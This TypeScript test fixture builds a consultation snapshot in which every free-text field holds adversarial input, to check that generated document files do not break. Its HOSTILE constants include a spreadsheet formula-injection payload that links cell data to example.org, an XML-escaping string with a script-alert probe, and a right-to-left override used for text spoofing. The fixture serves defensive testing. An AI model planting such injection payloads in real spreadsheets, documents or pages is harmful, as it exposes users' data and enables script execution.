/** A consultation whose every free text tries to break the file it lands in. */
import type { SnapshotSource } from '#app/domain/agm/pack-snapshot.ts';
import { aComment, aResponse, anOrganisation } from './a-response.ts';
import { aProposal, aReplyPaper, aSource } from './a-snapshot.ts';
import { aBlock, aChange, aConsultation, aGroup } from './factories.ts';

export const HOSTILE = {
  formula: '=HYPERLINK("https://example.org/?"&A1,"Click")',
  xml: `</w:t><a href='x'>&amp; "quoted" ]]> <script>alert(1)</script>`,
  control: 'Bell\u0007 null\u0000 escape\u001B next\u0085 end',
  forced: '\u202Etxet desrever\u202C and on',
  rightToLeft: 'مراجعة الشراكة — סקירה',
  emoji: '👩‍👩‍👧‍👦 café e\u0301 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  lone: 'half \uD83D of a pair',
  lines: 'one\r\ntwo\rthree\nfour\tfive',
  long: 'word '.repeat(14_000).trim(),
  unbroken: 'x'.repeat(400),
} as const;

export function hostileSource(): SnapshotSource {
  const texts = Object.values(HOSTILE);
  const proposals = texts.map((title, at) => aProposal(at + 1, { title }));
  const paper = aReplyPaper(0, {
    title: HOSTILE.xml,
    proposals,
    blocks: texts.map((text, at) => aBlock({ id: `b${at + 1}`, label: HOSTILE.formula, text })),
    recommendations: texts.map((text, at) => ({
      id: `r${at + 1}`,
      label: at === 0 ? '-1+1' : null,
      text,
      sourceBlocks: ['b1'],
    })),
    structure: {
      groups: texts.map((name, at) =>
        aGroup({ id: `g${at + 1}`, name, frequency: HOSTILE.xml }),
      ),
      seats: [],
      reportingLines: [],
      changes: texts.map((text, at) =>
        aChange({
          id: `c${at + 1}`,
          title: `@${at} ${text}`,
          before: text,
          after: HOSTILE.forced,
          note: text,
        }),
      ),
    },
  });
  const responses = texts.map((text, at) =>
    aResponse(at + 1, {
      respondent: anOrganisation({ name: text, sector: text }),
      consent: 'with-name',
      comments: [
        aComment({
          target: { kind: 'proposal', id: `p${at + 1}` },
          position: 'oppose',
          words: text,
        }),
        aComment({ target: { kind: 'block', id: `b${at + 1}` }, words: text }),
      ],
    }),
  );
  return {
    ...aSource(),
    consultation: aConsultation({
      title: HOSTILE.xml,
      publisher: HOSTILE.emoji,
      audience: HOSTILE.control,
      nextSteps: HOSTILE.lines,
      shortPeriodReason: HOSTILE.lone,
      areas: [HOSTILE.formula, HOSTILE.rightToLeft],
    }),
    version: {
      number: 1,
      publishedAt: new Date('2011-07-21T23:00:00Z'),
      changeNote: null,
      paper,
    },
    responses,
  };
}
